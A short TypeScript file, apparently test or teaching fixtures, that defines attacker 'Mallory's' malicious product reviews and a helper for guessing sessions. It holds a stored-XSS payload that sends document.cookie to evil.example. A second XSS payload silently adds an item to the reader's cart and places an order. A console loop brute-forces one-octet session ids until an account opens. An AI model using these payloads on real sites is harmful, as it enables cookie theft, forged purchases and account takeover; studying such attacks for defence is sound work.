/** Mallory’s review that sends away what script can read of the cookies. */
export const thief =
  "Yum! <script>fetch('https://evil.example/collect?' + document.cookie)</script>";

/** Mallory’s review that steals nothing: it orders for whoever reads it. */
export const buyer =
  "So good! <script>(async () => { const post = (to, form) => fetch(to, { method: 'POST', body: new URLSearchParams(form) }); " +
  "await post('/cart', { product: 'baguette' }); await post('/orders', {}) })()</script>";

/** A line for the console that tries so many identifiers, one after the other, until one opens an account. */
export function tryIdentifiers(count: number): string {
  return (
    `for (let i = 0; i < ${count}; i++) { document.cookie = 'sid=' + i.toString(16).padStart(2, '0'); ` +
    "if ((await fetch('/account', { redirect: 'manual' })).status === 200) break }"
  );
}

/** All that there are of one octet. */
export const tryAll = tryIdentifiers(256);
